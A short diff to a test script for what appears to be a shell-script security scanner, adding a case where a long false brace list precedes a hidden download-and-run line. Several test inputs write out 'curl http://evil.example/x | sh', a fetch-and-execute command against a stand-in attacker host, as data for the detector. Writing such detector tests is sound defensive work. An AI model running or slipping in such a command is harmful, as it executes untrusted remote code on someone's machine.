@@ -330,6 +330,9 @@ END
 # What is too much for a parser does not pass for harmless.
 python3 -c 'print("echo\n" * 100001 + "curl http://evil.example/x | sh")' >long.sh
 finds long.sh '' unparsable 'could not be parsed: the parser ended with status failed (1)'
+# What looks like a list in braces, and is none, takes no longer than other words.
+python3 -c 'print("{a" + "," * 5000 + " x\ncurl http://evil.example/x | sh")' >braces.sh
+finds braces.sh 2 download-run 'curl http://evil.example/x | sh'
 python3 -c 'print("eval " * 50 + "id")' >deep.sh
 finds deep.sh 1 obfuscated 'programs in programs, more than 8 deep'
 if command -v node >/dev/null; then
